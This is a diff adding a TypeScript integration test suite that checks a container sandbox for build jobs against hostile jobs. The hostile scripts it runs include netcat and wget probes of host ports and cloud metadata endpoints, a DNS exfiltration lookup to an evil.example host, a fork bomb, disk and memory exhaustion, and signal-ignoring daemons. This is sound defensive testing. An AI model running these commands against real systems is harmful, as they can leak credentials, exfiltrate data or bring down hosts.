@@ -1,0 +1,309 @@
+import { once } from "node:events";
+import { mkdtempSync, rmSync } from "node:fs";
+import { createServer } from "node:http";
+import type { AddressInfo } from "node:net";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { builders } from "../../src/builders/index.ts";
+import { DEFAULT_LIMITS, type Job, type JobResult } from "../../src/domain/job.ts";
+import { openCanaries, type Canaries } from "../../src/executors/canaries.ts";
+import { listParents } from "../../src/executors/cgroup.ts";
+import { createEngineExecutor, type EngineExecutor } from "../../src/executors/engine.ts";
+import { freeBytes } from "../../src/lib/disk.ts";
+import { createDownloadCache } from "../../src/network/download-cache.ts";
+import { egressTo, type Egress } from "../../src/network/egress.ts";
+import { isOwnAddress, isPublicAddress } from "../../src/network/public-address.ts";
+import { gatedJob } from "../../src/trials/gated-job.ts";
+import { STRATEGIES } from "../contracts/strategies.ts";
+import { diskMounts, hostileJob, survivors, untilTrue } from "./gate-jobs.ts";
+import { openLiveTestbed, type LiveTestbed } from "./live-testbed.ts";
+
+const MIB = 1024 ** 2;
+/** A server that stands for one of the public internet. */
+const OUTSIDE = "127.0.0.9";
+const never = new AbortController().signal;
+
+let live: LiveTestbed;
+let executor: EngineExecutor;
+let egress: Egress;
+let canaries: Canaries;
+let image: string;
+let asked: string[] = [];
+const names = new Map<string, string>();
+const outside = createServer((request, response) => {
+  asked.push(`${request.method} ${request.headers.host}${request.url}`);
+  response.end("payload of the outside\n");
+});
+let port = 0;
+
+beforeAll(async () => {
+  live = await openLiveTestbed();
+  image = live.testbed.tools.registry.image;
+  canaries = await openCanaries();
+  outside.listen(0, OUTSIDE);
+  await once(outside, "listening");
+  port = (outside.address() as AddressInfo).port;
+  egress = egressTo([`good.example:${port}`, "rebind.example", `rebind.example:${port}`], {
+    allowsAddress: (_host, address) =>
+      address === OUTSIDE || (isPublicAddress(address) && !isOwnAddress(address)),
+    resolve: (host, _options, callback) => {
+      const address = names.get(host) ?? OUTSIDE;
+      callback(null, [{ address, family: address.includes(":") ? 6 : 4 }]);
+    },
+  });
+  executor = createEngineExecutor(live.testbed.engine, undefined, { egress, holderImage: image });
+});
+
+afterAll(async () => {
+  outside.close();
+  canaries?.close();
+  await live?.close();
+});
+
+const lines = ({ log }: JobResult) => log.map(({ line }) => line);
+const heard = () => canaries.denied.map((canary) => canary.heard());
+const NOTHING_HEARD = () => canaries.denied.map(() => ({ connections: 0, bytes: 0 }));
+
+describe("this machine", () => {
+  it("holds jobs of others: one that tries everything gets through with nothing", async () => {
+    expect(await executor.missingForGate()).toStrictEqual([]);
+  });
+});
+
+describe("a job behind the gate", () => {
+  it("has an empty environment, no socket of an engine, and names of nobody", async () => {
+    process.env["TARE_CANARY_SECRET"] = "canary-4711";
+    const script =
+      "env; ls -d /var/run/docker.sock /run/docker.sock /run/podman 2> /dev/null; hostname; id -u";
+    const result = await executor.run(hostileJob(image, () => script).job, never);
+    delete process.env["TARE_CANARY_SECRET"];
+    const known = /^(?:PATH|HOSTNAME|HOME|SHLVL|PWD)=|^runner$|^0$/;
+    expect(lines(result).filter((line) => !known.test(line))).toStrictEqual([]);
+    expect(lines(result)).toContain("runner");
+  });
+
+  it("is heard nowhere: on no address of this machine, by TCP, UDP, or through the gate", async () => {
+    const tries = canaries.denied.map(({ address, port: at }) => {
+      const host = address.includes(":") ? `[${address}]` : address;
+      return `
+nc -w 1 ${address} ${at} < /dev/null; echo x | nc -u -w 1 ${address} ${at}
+http_proxy=http://198.18.0.1:3128 wget -q -T 2 -O - http://${host}:${at}/
+printf 'CONNECT ${host}:${at} HTTP/1.1\r\n\r\nx' | nc -w 1 198.18.0.1 3128
+printf 'GET / HTTP/1.1\r\nHost: ${host}:${at}\r\n\r\n' | nc -w 1 198.18.0.1 80`;
+    });
+    const metadata = `
+for at in 169.254.169.254:80 [fd00:ec2::254]:80 metadata.google.internal:80; do
+  http_proxy=http://198.18.0.1:3128 wget -q -T 2 -O - http://$at/latest/meta-data/ && echo LEAK
+  printf "CONNECT $at HTTP/1.1\\r\\n\\r\\n" | nc -w 1 198.18.0.1 3128 | grep -q 200 && echo LEAK
+done
+nc -w 1 169.254.169.254 80 < /dev/null && echo LEAK; nc -w 1 10.0.0.1 80 < /dev/null && echo LEAK
+nslookup secret-words.evil.example > /dev/null 2>&1 && echo LEAK
+nc -w 2 127.0.0.1 ${canaries.door.port} < /dev/null`;
+    const services = [{ host: `127.0.0.1:${canaries.door.port}`, readOnly: false }];
+    const { job } = hostileJob(image, () => `(${tries.join("\n")}\n${metadata}) 2> /dev/null; true`, {
+      services,
+    });
+    const before = canaries.door.heard().connections;
+    const result = await executor.run(job, never);
+    expect(result.outcome).toBe("succeeded");
+    expect(lines(result).filter((line) => line.includes("LEAK"))).toStrictEqual([]);
+    expect(heard()).toStrictEqual(NOTHING_HEARD());
+    // Its own door was open all the time: silence is not for want of a network.
+    expect(canaries.door.heard().connections).toBe(before + 1);
+    expect(lines(result).filter((line) => line === "canary")).toStrictEqual(["canary"]);
+  });
+
+  it("reaches a listed name, and not where that leads inside afterwards", async () => {
+    asked = [];
+    const get = (host: string) => `wget -q -T 2 -O - http://${host}/ 2>&1`;
+    const proxied = `export http_proxy=http://198.18.0.1:3128;`;
+    const first = await executor.run(
+      hostileJob(image, () => proxied + get(`good.example:${port}`)).job,
+      never,
+    );
+    expect(lines(first)).toStrictEqual(["payload of the outside"]);
+    expect(asked).toStrictEqual([`GET good.example:${port}/`]);
+    for (const { address, port: at } of [...canaries.denied, { address: "169.254.169.254", port: 80 }]) {
+      names.set("rebind.example", address);
+      const script = `${proxied} ${get(`rebind.example:${port}`)}; unset http_proxy; ${get("rebind.example")}`;
+      const result = await executor.run(hostileJob(image, () => script).job, never);
+      expect(lines(result).filter((line) => line.includes("403")).length).toBe(2);
+      expect(at).toBeGreaterThan(0);
+    }
+    expect(heard()).toStrictEqual(NOTHING_HEARD());
+    expect(asked.length).toBe(1);
+  });
+
+  it("fills its own disk and no other", async () => {
+    const { rootDirectory } = live.testbed.engine.facts;
+    const before = await freeBytes(rootDirectory ?? "/");
+    let least = before;
+    const timer = setInterval(() => {
+      void freeBytes(rootDirectory ?? "/").then((free) => (least = Math.min(least, free)));
+    }, 50);
+    const fill = (path: string) => `dd if=/dev/zero of=${path} bs=1M count=400 2>&1 | grep -c 'No space'`;
+    const paths = ["/fill", "/work/fill", "/etc/hosts", "/etc/resolv.conf", "/etc/hostname", "/tmp/fill"];
+    const script = `mkdir -p /tmp; ${paths.map((path) => `${fill(path)}; rm -f ${path} || : > ${path}`).join("; ")}; df -m / | tail -n 1`;
+    const result = await executor.run(hostileJob(image, () => script).job, never);
+    clearInterval(timer);
+    expect(lines(result).slice(0, paths.length)).toStrictEqual(paths.map(() => "1"));
+    expect(before - least).toBeLessThan(100 * MIB);
+    expect(diskMounts()).toStrictEqual([]);
+  });
+
+  it("ends with its whole tree where it forks without end", async () => {
+    const bomb = (mark: string) => `b() { sleep ${mark} & b & b & }; b; sleep ${mark}`;
+    const { job, mark } = hostileJob(image, bomb, { limits: { durationMs: 3_000 } });
+    const begun = performance.now();
+    let most = 0;
+    const timer = setInterval(() => (most = Math.max(most, survivors(mark).length)), 200);
+    const result = await executor.run(job, never);
+    clearInterval(timer);
+    expect(await untilTrue(() => survivors(mark).length === 0, 5_000)).toBeLessThan(1_000);
+    expect(performance.now() - begun).toBeLessThan(3_000 + 5_000 + 3_000);
+    expect(["timed-out", "failed"]).toContain(result.outcome);
+    expect(most).toBeGreaterThan(10);
+    expect(most).toBeLessThanOrEqual(64);
+  });
+
+  it.each(["main", "command"])("takes its daemons along where its %s ends", async (form) => {
+    const daemons = (mark: string) =>
+      `for i in 1 2 3 4 5 6 7 8; do setsid sh -c "trap '' TERM HUP INT; sleep ${mark}; true" > /dev/null 2>&1 & done; sleep 1; echo begun`;
+    const made = hostileJob(image, daemons);
+    const argv = ["sh", "-c", daemons(made.mark)];
+    const job: Job =
+      form === "main"
+        ? made.job
+        : {
+            ...made.job,
+            main: ["sleep", "600"],
+            commands: [{ phase: "build", argv, workingDirectory: "/", mayFail: false }],
+          };
+    let most = 0;
+    const timer = setInterval(() => (most = Math.max(most, survivors(made.mark).length)), 100);
+    const result = await executor.run(job, never);
+    clearInterval(timer);
+    expect(result.outcome).toBe("succeeded");
+    expect(most).toBeGreaterThanOrEqual(8);
+    expect(survivors(made.mark)).toStrictEqual([]);
+  });
+
+  it("is gone within 5 s of its deadline where it ignores every signal that it can", async () => {
+    const stubborn = (mark: string) =>
+      `trap '' TERM INT HUP QUIT; setsid sh -c "trap '' TERM; sleep ${mark}" & while :; do sleep ${mark}; done`;
+    const { job, mark } = hostileJob(image, stubborn, { limits: { durationMs: 2_000 } });
+    const running = executor.run(job, never);
+    await untilTrue(() => survivors(mark).length > 0, 5_000);
+    const begun = performance.now();
+    await untilTrue(() => survivors(mark).length === 0, 10_000);
+    expect(performance.now() - begun).toBeLessThan(2_000 + 5_000);
+    expect((await running).outcome).toBe("timed-out");
+    expect(survivors(mark)).toStrictEqual([]);
+  });
+
+  it("floods its log and has it cut", async () => {
+    const { job } = hostileJob(image, () => "yes 0123456789abcdef", { limits: { durationMs: 2_000 } });
+    const result = await executor.run(job, never);
+    expect(result.outcome).toBe("timed-out");
+    expect(lines(result).reduce((sum, line) => sum + line.length + 1, 0)).toBeLessThan(110_000);
+  });
+
+  it("is killed at its memory", async () => {
+    const { job } = hostileJob(image, () => "head -c 300m /dev/zero | tail -c 299m > /dev/null");
+    expect((await executor.run(job, never)).outcome).toBe("out-of-memory");
+  });
+});
+
+describe("a job that cannot be held", () => {
+  it.each(["mounts", "daemon"] as const)(
+    "for its %s is refused before anything is made",
+    async (privileges) => {
+      const { job } = hostileJob(image, () => "echo begun", { privileges });
+      await expect(executor.run(job, never)).rejects.toMatchObject({ code: "gate-impossible" });
+    },
+  );
+
+  it("for want of a gate or of a disk is refused", async () => {
+    const { job } = hostileJob(image, () => "echo begun");
+    const without = createEngineExecutor(live.testbed.engine);
+    await expect(without.run(job, never)).rejects.toMatchObject({
+      code: "gate-impossible",
+      details: ["no gate was set up"],
+    });
+    const boundless = { ...job, limits: { ...job.limits, diskBytes: null } };
+    await expect(executor.run(boundless, never)).rejects.toMatchObject({ code: "gate-impossible" });
+  });
+});
+
+describe("kaniko behind the gate", () => {
+  it("pulls its base, downloads from a listed host, pushes, and cannot write where others start from", async () => {
+    asked = [];
+    const directory = mkdtempSync(join(tmpdir(), "tare-gate-"));
+    const { allowsHost, allowsAddress, resolve } = egress;
+    const downloads = await createDownloadCache({
+      directory,
+      allowHost: allowsHost,
+      allow: allowsAddress,
+      resolve,
+    });
+    const registry = await live.startRegistry("live-gate");
+    try {
+      const write = `wget -q -T 3 -O - --post-data= http://${live.baseHost}/v2/library/busybox/blobs/uploads/ 2>&1 | grep -q 403`;
+      const dockerfile = [
+        "FROM docker.io/library/busybox:1.36",
+        `RUN wget -q -O /payload http://good.example:${port}/payload`,
+        `RUN ! wget -q -T 3 -O /leak http://evil.example:${port}/payload`,
+        `RUN env -u http_proxy -u HTTP_PROXY sh -c '${write}'`,
+        "",
+      ].join("\n");
+      const build = kanikoBuild(registry.host, downloads.address, dockerfile);
+      const { job } = builders.kaniko.job(build);
+      const result = await executor.run(gatedJob(job, build, null), never);
+      expect(lines(result).slice(-5).join("\n")).not.toMatch(/error/i);
+      expect(result.outcome).toBe("succeeded");
+      expect(asked).toStrictEqual([`GET good.example:${port}/payload`]);
+      expect((await registry.client.manifest("app", "latest"))?.manifest.layers.length).toBeGreaterThan(1);
+      expect(heard()).toStrictEqual(NOTHING_HEARD());
+    } finally {
+      await downloads.close();
+      await registry.remove();
+      rmSync(directory, { recursive: true });
+    }
+  });
+
+  function kanikoBuild(host: string, proxy: string, dockerfile: string) {
+    const projectDirectory = "/builds/group/project";
+    const path = `${projectDirectory}/Dockerfile`;
+    return {
+      name: `gate-${process.pid}-kaniko`,
+      recipe: STRATEGIES["kaniko/none"],
+      images: [`${host}/app:latest`],
+      cacheFrom: [],
+      cacheTo: [],
+      pulls: [],
+      files: [{ kind: "file", path, content: Buffer.from(dockerfile), executable: false } as const],
+      projectDirectory,
+      dockerfile: path,
+      context: projectDirectory,
+      registryHost: host,
+      credentials: null,
+      mirrors: live.mirrors,
+      proxy,
+      image: live.testbed.tools.builders.kaniko?.image ?? "",
+      limits: { ...DEFAULT_LIMITS, diskBytes: 512 * MIB, durationMs: 60_000 },
+    };
+  }
+});
+
+describe("behind them all", () => {
+  it("nothing is left: no container, no mount, no cgroup", async () => {
+    const containers = await live.testbed.engine.docker.listContainers({ all: true });
+    const own = containers
+      .flatMap(({ Names }) => Names)
+      .filter((name) => name.includes(`gate-${process.pid}-`));
+    expect(own).toStrictEqual([]);
+    expect(diskMounts()).toStrictEqual([]);
+    expect(listParents().filter((name) => name.includes(`gate-${process.pid}-`))).toStrictEqual([]);
+  });
+});
